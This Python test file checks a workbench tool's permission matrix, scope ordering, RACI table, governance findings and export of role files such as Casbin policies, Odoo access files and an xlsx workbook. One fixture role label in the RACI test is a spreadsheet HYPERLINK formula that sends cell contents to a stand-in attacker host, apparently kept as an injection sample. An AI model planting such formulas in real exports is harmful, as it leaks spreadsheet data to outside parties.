"""The matrix and RACI as data (what the writers and the TUI share), two governance fixes, and the roles
deliverable exported through the registry with every file it promises."""

from __future__ import annotations

from tests.writers.roles_fixtures import context, roles_data
from workbench.domain.governance import check_governance
from workbench.domain.matrix import holds, implied_scopes, permission_matrix, raci_table
from workbench.writers.export import export


def test_matrix_columns_rows_and_families(tmp_path):
    ctx = context(tmp_path)
    matrix = permission_matrix(ctx.playbook)
    by_id = {o.id: o for o in matrix.objects}
    assert by_id["lead"].actions == ("create", "read", "update", "assign", "export")
    assert by_id["report"].actions == ("read",) and by_id["report"].family == "analytics"
    assert [f for f, _ in matrix.families()] == ["data", "analytics", "system"]
    assert [r.role for r in matrix.rows] == ["consultant", "specialist", "agent"]
    assert (
        matrix.rows[1].scope("deal", "delete") == "own" and matrix.rows[1].scope("deal", "create") == "none"
    )
    assert permission_matrix(ctx.playbook, include=[("report", "delete")]).objects[3].actions == (
        "read",
        "delete",
    )
    assert all(len(o.actions) == 7 for o in permission_matrix(ctx.playbook, every_action=True).objects)
    assert ("agent", "report", "read", "team") in matrix.grants()
    assert not [g for g in matrix.grants() if g[3] == "none"]


def test_scope_order():
    assert implied_scopes("all") == ("own", "team", "all") and implied_scopes("own") == ("own",)
    assert implied_scopes("none") == () and not holds("all", "none") and not holds("team", "all")


def test_raci_table_in_phase_order(tmp_path):
    table = raci_table(context(tmp_path).playbook)
    assert table.roles == [
        ("consultant", "Consultant"),
        ("specialist", "Specialist"),
        ("agent", '=HYPERLINK("http://attacker.test/?x="&A1,"click")'),
    ]
    assert [(p, [r.task for r in rows]) for p, _, rows in table.phases()] == [
        ("pre_deployment", ["rfp", "hire", "select"]),
        ("deployment", ["service_setup", "golive"]),
    ]
    assert table.rows[0].letters == {"consultant": "A", "specialist": "R", "agent": "I"}


def test_separation_of_duties_with_min_scope_none_flags_only_holders(tmp_path):
    data = roles_data()
    data["governance"]["separation_of_duties"][0]["first"]["min_scope"] = "none"
    data["governance"]["separation_of_duties"][0]["second"]["min_scope"] = "none"
    found = [f for f in check_governance(context(tmp_path, data).playbook) if f.rule.startswith("sod:")]
    assert [f.role for f in found] == ["consultant"]  # the others hold neither right


def test_wont_haves_do_not_dilute_the_must_have_share(tmp_path):
    data = roles_data()
    data["requirements"] = [
        {"id": "M1", "module": "sales", "text": "Must", "priority": "must", "weight": 5},
        {"id": "S1", "module": "sales", "text": "Should", "priority": "should", "weight": 2},
        {"id": "W1", "module": "sales", "text": "Later", "priority": "wont", "weight": 5},
    ]
    findings = check_governance(context(tmp_path, data).playbook)
    balance = [f for f in findings if f.rule == "moscow-balance"]
    assert len(balance) == 1 and "71%" in balance[0].message  # 5 of 7, not 5 of 12


def test_roles_export_through_the_registry(tmp_path):
    result = export(context(tmp_path), tmp_path / "export", only=["roles"])
    names = sorted(p.name for p in result.files)
    assert names == [
        "casbin_model.conf",
        "casbin_policy.csv",
        "ir.model.access.csv",
        "odoo-unmapped.txt",
        "permissions.csv",
        "record_rules.xml",
        "roles.md",
        "roles.xlsx",
    ]
    assert all(p.stat().st_size > 0 for p in result.files)
